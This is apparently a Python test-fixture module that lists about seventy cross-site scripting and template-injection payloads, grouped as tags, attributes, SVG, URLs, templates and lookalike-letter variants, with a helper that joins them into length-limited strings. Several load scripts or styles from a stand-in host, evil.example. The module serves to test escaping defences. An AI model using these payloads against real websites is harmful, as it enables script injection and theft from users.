"""Texts that would run a script wherever they were taken for anything but text.

Each calls `__ran`, or asks a question, if it ever runs; each also stays a name that may be given.
"""

from collections.abc import Iterable, Iterator

TAGS = (
    "<script>__ran(1)</script>",
    "<ScRiPt>__ran(2)</sCrIpT>",
    "<script/x>__ran(3)</script >",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>__ran(5)</script>",
    "</title><script>__ran(6)</script>",
    "</textarea><script>__ran(7)</script>",
    "</style><script>__ran(8)</script>",
    "--><script>__ran(9)</script><!--",
    "]]><script>__ran(10)</script>",
    "<<script>__ran(11)//<</script>",
    "<scr<script>ipt>__ran(12)</script>",
    "<img src=x onerror=__ran(13)>",
    "<img src=x onerror='__ran(14)'",
    "<img/src=x/onerror=__ran(15)>",
    '<img src="x` `<script>__ran(16)</script>"` `>',
    "<body onload=__ran(17)>",
    "<iframe srcdoc='<script>parent.__ran(18)</script>'>",
    "<iframe src=javascript:__ran(19)>",
    "<object data=javascript:__ran(20)></object>",
    "<embed src=javascript:__ran(21)>",
    "<video><source onerror=__ran(22)></video>",
    "<audio src=x onerror=__ran(23)>",
    "<details open ontoggle=__ran(24)>",
    "<input autofocus onfocus=__ran(25)>",
    "<select autofocus onfocus=__ran(26)>",
    "<marquee onstart=__ran(27)>",
    "<meta http-equiv=refresh content='0;url=javascript:__ran(28)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:__ran(32)><button>x</form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=__ran(33)>",
    "<noscript><p title='</noscript><img src=x onerror=__ran(34)>'>",
    "<template><script>__ran(35)</script></template>",
)
ATTRIBUTES = (
    '" onmouseover="__ran(36)',
    "' onmouseover='__ran(37)",
    '" autofocus onfocus="__ran(38)',
    '"><img src=x onerror=__ran(39)>',
    "'><svg onload=__ran(40)>",
    "` onclick=__ran(41) `",
    '" style="background:url(//evil.example/x)',
    "x onload=__ran(43) x",
)
DRAWINGS = (
    "<svg onload=__ran(44)>",
    "<svg><script>__ran(45)</script></svg>",
    "<svg><animate onbegin=__ran(46) attributeName=x dur=1s>",
    "<svg><a href=javascript:__ran(47)><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=__ran(48)></foreignObject></svg>",
)
ADDRESSES = (
    "javascript:__ran(49)",
    "JaVaScRiPt:__ran(50)",
    "data:text/html,<script>parent.__ran(51)</script>",
    "[x](javascript:__ran(52))",
    "[x](JAVASCRIPT&colon;__ran(53))",
    "[x](<javascript:__ran(54)>)",
    '![x](x"onerror="__ran(55))',
    "![x](//evil.example/x.png)",
    "<javascript:__ran(57)>",
    "[x]: javascript:__ran(58) [x]",
)
TEMPLATES = (
    "{{ 7*7 }}{% print(59) %}",
    "${__ran(60)} #{__ran(60)} <%= __ran(60) %>",
    "%(num)d {0} {name.__class__}",
    "';alert(62)//",
    '";confirm(63)//',
    "\\u003cscript\\u003e__ran(64)\\u003c/script\\u003e",
    "&lt;script&gt;__ran(65)&lt;/script&gt;",
    "&#60;script&#62;__ran(66)&#60;/script&#62;",
)
LETTERS = (
    "＜script＞__ran(67)＜/script＞",
    "‹script›__ran(68)‹/script›",
    "<scrıpt>__ran(69)</scrıpt>",
    "<ſcript>__ran(70)</ſcript>",
    "+ADw-script+AD4-__ran(71)+ADw-/script+AD4-",
    "¼script¾__ran(72)¼/script¾",
)
PAYLOADS = (*TAGS, *ATTRIBUTES, *DRAWINGS, *ADDRESSES, *TEMPLATES, *LETTERS)


def joined(payloads: Iterable[str], longest: int) -> Iterator[str]:
    """Yield texts of several payloads each, none longer than `longest` characters."""
    text = ""
    for payload in payloads:
        if len(text) + 1 + len(payload) > longest:
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload
    yield text
